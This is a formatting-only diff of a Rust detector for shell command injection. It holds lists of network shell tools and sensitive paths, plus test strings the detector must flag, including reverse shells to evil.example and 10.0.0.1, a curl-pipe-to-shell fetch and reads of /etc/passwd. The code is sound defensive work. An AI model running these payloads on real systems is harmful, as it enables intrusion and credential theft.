@@ -41,31 +41,79 @@ enum Class {
 /// (command, class, distinctive): distinctive words are never ordinary field values, so a value
 /// that is only that word counts.
 const COMMANDS: &[(&str, Class, bool)] = &[
-    ("whoami", Class::Recon, true), ("id", Class::Recon, false), ("uname", Class::Recon, true),
-    ("ifconfig", Class::Recon, true), ("pwd", Class::Recon, false), ("hostname", Class::Recon, false),
-    ("ls", Class::Recon, false), ("ps", Class::Recon, false), ("env", Class::Recon, false),
-    ("printenv", Class::Recon, true), ("netstat", Class::Recon, true), ("uptime", Class::Recon, false),
-    ("who", Class::Recon, false), ("getent", Class::Recon, true), ("dir", Class::Recon, false),
-    ("cat", Class::File, false), ("head", Class::File, false), ("tail", Class::File, false),
-    ("more", Class::File, false), ("less", Class::File, false), ("nl", Class::File, false),
-    ("tac", Class::File, false), ("strings", Class::File, false), ("xxd", Class::File, false),
-    ("od", Class::File, false), ("base64", Class::File, false), ("grep", Class::File, false),
-    ("find", Class::File, false), ("rm", Class::File, false), ("touch", Class::File, false),
-    ("chmod", Class::File, false), ("cp", Class::File, false), ("mv", Class::File, false),
-    ("wc", Class::File, false), ("mkfifo", Class::File, false), ("crontab", Class::File, false),
-    ("kill", Class::File, false), ("useradd", Class::File, false), ("awk", Class::File, false),
-    ("curl", Class::Net, false), ("wget", Class::Net, false), ("nc", Class::Net, false),
-    ("ncat", Class::Net, false), ("netcat", Class::Net, false), ("socat", Class::Net, false),
-    ("telnet", Class::Net, false), ("ping", Class::Net, false), ("nslookup", Class::Net, false),
-    ("dig", Class::Net, false), ("host", Class::Net, false), ("traceroute", Class::Net, false),
-    ("tftp", Class::Net, false), ("ftp", Class::Net, false), ("ssh", Class::Net, false),
-    ("sh", Class::Shell, false), ("bash", Class::Shell, false), ("zsh", Class::Shell, false),
-    ("ksh", Class::Shell, false), ("dash", Class::Shell, false), ("csh", Class::Shell, false),
-    ("busybox", Class::Shell, false), ("python", Class::Shell, false), ("python2", Class::Shell, false),
-    ("python3", Class::Shell, false), ("perl", Class::Shell, false), ("php", Class::Shell, false),
-    ("ruby", Class::Shell, false), ("node", Class::Shell, false), ("lua", Class::Shell, false),
-    ("sleep", Class::Delay, false), ("timeout", Class::Delay, false),
-    ("echo", Class::Echo, false), ("printf", Class::Echo, false),
+    ("whoami", Class::Recon, true),
+    ("id", Class::Recon, false),
+    ("uname", Class::Recon, true),
+    ("ifconfig", Class::Recon, true),
+    ("pwd", Class::Recon, false),
+    ("hostname", Class::Recon, false),
+    ("ls", Class::Recon, false),
+    ("ps", Class::Recon, false),
+    ("env", Class::Recon, false),
+    ("printenv", Class::Recon, true),
+    ("netstat", Class::Recon, true),
+    ("uptime", Class::Recon, false),
+    ("who", Class::Recon, false),
+    ("getent", Class::Recon, true),
+    ("dir", Class::Recon, false),
+    ("cat", Class::File, false),
+    ("head", Class::File, false),
+    ("tail", Class::File, false),
+    ("more", Class::File, false),
+    ("less", Class::File, false),
+    ("nl", Class::File, false),
+    ("tac", Class::File, false),
+    ("strings", Class::File, false),
+    ("xxd", Class::File, false),
+    ("od", Class::File, false),
+    ("base64", Class::File, false),
+    ("grep", Class::File, false),
+    ("find", Class::File, false),
+    ("rm", Class::File, false),
+    ("touch", Class::File, false),
+    ("chmod", Class::File, false),
+    ("cp", Class::File, false),
+    ("mv", Class::File, false),
+    ("wc", Class::File, false),
+    ("mkfifo", Class::File, false),
+    ("crontab", Class::File, false),
+    ("kill", Class::File, false),
+    ("useradd", Class::File, false),
+    ("awk", Class::File, false),
+    ("curl", Class::Net, false),
+    ("wget", Class::Net, false),
+    ("nc", Class::Net, false),
+    ("ncat", Class::Net, false),
+    ("netcat", Class::Net, false),
+    ("socat", Class::Net, false),
+    ("telnet", Class::Net, false),
+    ("ping", Class::Net, false),
+    ("nslookup", Class::Net, false),
+    ("dig", Class::Net, false),
+    ("host", Class::Net, false),
+    ("traceroute", Class::Net, false),
+    ("tftp", Class::Net, false),
+    ("ftp", Class::Net, false),
+    ("ssh", Class::Net, false),
+    ("sh", Class::Shell, false),
+    ("bash", Class::Shell, false),
+    ("zsh", Class::Shell, false),
+    ("ksh", Class::Shell, false),
+    ("dash", Class::Shell, false),
+    ("csh", Class::Shell, false),
+    ("busybox", Class::Shell, false),
+    ("python", Class::Shell, false),
+    ("python2", Class::Shell, false),
+    ("python3", Class::Shell, false),
+    ("perl", Class::Shell, false),
+    ("php", Class::Shell, false),
+    ("ruby", Class::Shell, false),
+    ("node", Class::Shell, false),
+    ("lua", Class::Shell, false),
+    ("sleep", Class::Delay, false),
+    ("timeout", Class::Delay, false),
+    ("echo", Class::Echo, false),
+    ("printf", Class::Echo, false),
 ];
 
 /// Prefixes that run the next word as the command.
@@ -75,8 +123,19 @@ const WRAPPERS: &[&str] = &["sudo", "nohup", "exec", "time", "command", "xargs",
 const HOSTILE: &[&str] = &["/etc/passwd", "/etc/shadow", "/proc/self/environ", "/dev/tcp/", "/dev/udp/", "/.ssh/id_"];
 
 const SENSITIVE: &[&str] = &[
-    "/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hosts", "/etc/issue", "/etc/hostname",
-    "/proc/self", "/dev/tcp/", "/dev/udp/", "/root/", "/.ssh", "/var/www", "/tmp/",
+    "/etc/passwd",
+    "/etc/shadow",
+    "/etc/group",
+    "/etc/hosts",
+    "/etc/issue",
+    "/etc/hostname",
+    "/proc/self",
+    "/dev/tcp/",
+    "/dev/udp/",
+    "/root/",
+    "/.ssh",
+    "/var/www",
+    "/tmp/",
 ];
 
 #[derive(Clone, Copy, PartialEq, Debug)]
@@ -126,7 +185,11 @@ impl Check for ShellUnix {
             spaced = (0..text.len())
                 .map(|k| {
                     let digits = k > 0 && text[k - 1].is_ascii_digit() && text.get(k + 1).is_some_and(|c| c.is_ascii_digit());
-                    if text[k] == b'+' && !digits { b' ' } else { text[k] }
+                    if text[k] == b'+' && !digits {
+                        b' '
+                    } else {
+                        text[k]
+                    }
                 })
                 .collect::<Vec<u8>>();
             &spaced[..]
@@ -297,7 +360,20 @@ fn scan(t: &[u8], marks: &[bool]) -> Vec<Candidate> {
 }
 
 /// Functions whose string argument is a shell command line (PHP, Python, Node, Perl, Ruby).
-const EXEC_FUNCTIONS: &[&str] = &["system", "exec", "shell_exec", "passthru", "popen", "proc_open", "eval", "execSync", "spawnSync", "check_output", "getoutput", "pcntl_exec"];
+const EXEC_FUNCTIONS: &[&str] = &[
+    "system",
+    "exec",
+    "shell_exec",
+    "passthru",
+    "popen",
+    "proc_open",
+    "eval",
+    "execSync",
+    "spawnSync",
+    "check_output",
+    "getoutput",
+    "pcntl_exec",
+];
 
 /// `(` right after an exec-style function name: what follows is a command line.
 fn exec_call(t: &[u8], open: usize) -> bool {
@@ -319,7 +395,8 @@ fn command_at(t: &[u8], marks: &[bool], mut i: usize, opener: Opener, in_paren: 
     // Skip wrappers and `NAME=value` assignments in front of the command.
     for _ in 0..3 {
         let w = &t[i..end];
-        let assignment = w.iter().position(|&c| c == b'=').is_some_and(|p| p > 0 && w[..p].iter().all(|&c| c.is_ascii_alphanumeric() || c == b'_'));
+        let assignment =
+            w.iter().position(|&c| c == b'=').is_some_and(|p| p > 0 && w[..p].iter().all(|&c| c.is_ascii_alphanumeric() || c == b'_'));
         if !(assignment || WRAPPERS.iter().any(|x| x.as_bytes() == w)) || end >= n || !matches!(t[end], b' ' | b'\t') {
             break;
         }
@@ -389,7 +466,11 @@ fn command_at(t: &[u8], marks: &[bool], mut i: usize, opener: Opener, in_paren: 
         }
         Class::Delay => matches!(shapes.first(), Some(Shape::Number)) && args.len() <= 2,
         Class::Echo => {
-            !args.is_empty() && (redirect || piped_to_shell || any(&[Shape::Var, Shape::Flag, Shape::Caps]) || args.iter().any(|&(s, e)| t[s..e].contains(&b'$')))
+            !args.is_empty()
+                && (redirect
+                    || piped_to_shell
+                    || any(&[Shape::Var, Shape::Flag, Shape::Caps])
+                    || args.iter().any(|&(s, e)| t[s..e].contains(&b'$')))
         }
     };
     let reverse_shell = contains(&t[i..seg_end], b"/dev/tcp/")
@@ -425,7 +506,10 @@ enum Shape {
     Plain,
 }
 
-const FILE_EXTENSIONS: &[&str] = &["txt", "php", "sh", "py", "pl", "conf", "cnf", "ini", "log", "db", "htaccess", "htpasswd", "bak", "jsp", "asp", "aspx", "cgi", "xml", "json", "sql", "key", "pem"];
+const FILE_EXTENSIONS: &[&str] = &[
+    "txt", "php", "sh", "py", "pl", "conf", "cnf", "ini", "log", "db", "htaccess", "htpasswd", "bak", "jsp", "asp", "aspx", "cgi", "xml",
+    "json", "sql", "key", "pem",
+];
 
 /// A word without the quote or `#` that closes an injected value (`org#`, `passwd'`).
 fn trim_tail(w: &[u8]) -> &[u8] {
@@ -482,9 +566,9 @@ fn contains(hay: &[u8], needle: &[u8]) -> bool {
 
 /// Words of running English that command lines do not use.
 const FUNCTION_WORDS: &[&str] = &[
-    "the", "a", "an", "to", "of", "and", "is", "it", "you", "that", "this", "with", "on", "how", "what",
-    "i", "my", "can", "be", "are", "not", "have", "your", "me", "we", "please", "why", "when", "but", "or",
-    "so", "if", "as", "at", "from", "will", "would", "should", "does", "there", "which", "about", "like",
+    "the", "a", "an", "to", "of", "and", "is", "it", "you", "that", "this", "with", "on", "how", "what", "i", "my", "can", "be", "are",
+    "not", "have", "your", "me", "we", "please", "why", "when", "but", "or", "so", "if", "as", "at", "from", "will", "would", "should",
+    "does", "there", "which", "about", "like",
 ];
 
 /// A field that is mostly prose, a markdown code block, or long multi-line source: a command
@@ -533,10 +617,27 @@ mod tests {
 
     #[test]
     fn commands_and_prose() {
-        for s in ["/files/| nc -e /bin/sh evil.example 4444/view", "; id", "| cat /etc/passwd", "$(whoami)", "`id`", "&& curl http://x/s.sh|sh", ";sleep 5;", "a;c'a't /etc/passwd", "/???/??t /???/p??s??", "echo aWQ= | base64 -d | sh", "x|nc -e /bin/sh 10.0.0.1 4444"] {
+        for s in [
+            "/files/| nc -e /bin/sh evil.example 4444/view",
+            "; id",
+            "| cat /etc/passwd",
+            "$(whoami)",
+            "`id`",
+            "&& curl http://x/s.sh|sh",
+            ";sleep 5;",
+            "a;c'a't /etc/passwd",
+            "/???/??t /???/p??s??",
+            "echo aWQ= | base64 -d | sh",
+            "x|nc -e /bin/sh 10.0.0.1 4444",
+        ] {
             assert_eq!(level(s), Some(1), "{s}");
         }
-        for s in ["Tom & Jerry; cat lovers", "ls -la output explained", "report.txt", "Opera/9.80 (J2ME/MIDP; Opera Mini/5.0; U; id) Presto/2.4.15"] {
+        for s in [
+            "Tom & Jerry; cat lovers",
+            "ls -la output explained",
+            "report.txt",
+            "Opera/9.80 (J2ME/MIDP; Opera Mini/5.0; U; id) Presto/2.4.15",
+        ] {
             assert_eq!(level(s), None, "{s}");
         }
         assert_ne!(level("curl -X GET -H \"Authorization: Bearer $TOKEN\" \"https://api.example.com/v2/x\""), Some(1));
